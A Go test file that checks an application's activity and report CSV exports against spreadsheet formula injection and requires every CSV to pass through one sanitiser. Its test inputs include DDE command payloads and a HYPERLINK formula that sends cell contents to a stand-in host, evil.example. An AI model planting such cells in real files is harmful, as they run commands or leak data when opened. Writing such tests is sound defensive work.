package model

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// formulas are cells a spreadsheet would run: DDE and HYPERLINK payloads,
// also behind a leading tab or carriage return, which Excel and LibreOffice
// skip before a formula.
var formulas = []string{
	"=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=cmd|' /C calc'!A0",
	"\r=HYPERLINK(\"https://evil.example\")",
}

func readCSV(t *testing.T, b *bytes.Buffer) [][]string {
	t.Helper()
	recs, err := csv.NewReader(b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// formulaCells returns the cells a spreadsheet could read as a formula.
func formulaCells(recs [][]string) []string {
	var bad []string
	for _, rec := range recs {
		for _, c := range rec {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				bad = append(bad, c)
			}
		}
	}
	return bad
}

func TestActivityCSVRunsNoFormula(t *testing.T) {
	var events []Event
	for _, f := range formulas {
		events = append(events, Event{Time: time.Date(2024, 3, 1, 9, 0, 0, 0, time.UTC), Kind: EventKind(f), ConnectionName: f, Detail: f})
	}
	var b bytes.Buffer
	if err := WriteCSV(&b, events); err != nil {
		t.Fatal(err)
	}
	recs := readCSV(t, &b)
	if bad := formulaCells(recs); len(bad) > 0 {
		t.Errorf("formulas left in the activity CSV: %q", bad)
	}
	if got := recs[len(recs)-1]; got[2] != "'"+formulas[len(formulas)-1] || got[0] != "2024-03-01T09:00:00Z" {
		t.Errorf("last row %q: want the cell kept whole after the apostrophe, and the time as it was", got)
	}
}

func TestReportCSVRunsNoFormula(t *testing.T) {
	var rows []ReportRow
	for _, f := range formulas {
		rows = append(rows, ReportRow{Name: f, Environment: EnvKind(f), AuthBefore: AuthType(f), AuthNow: AuthType(f), IClient: f,
			AuthorizedAs: f, Status: Status(f), LastTestAt: time.Now(), LastTest: f})
	}
	var b bytes.Buffer
	if err := WriteReportCSV(&b, rows); err != nil {
		t.Fatal(err)
	}
	if bad := formulaCells(readCSV(t, &b)); len(bad) > 0 {
		t.Errorf("formulas left in the report CSV: %q", bad)
	}
}

// TestOneCSVWriter keeps every CSV this module writes going through
// csvWriter, and so through csvSafe.
func TestOneCSVWriter(t *testing.T) {
	err := filepath.WalkDir("..", func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return err
		}
		src, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if bytes.Contains(src, []byte("csv.NewWriter(")) && filepath.ToSlash(path) != "../model/csvsafe.go" {
			t.Errorf("%s writes CSV without csvWriter (model/csvsafe.go), so its cells skip csvSafe", path)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}
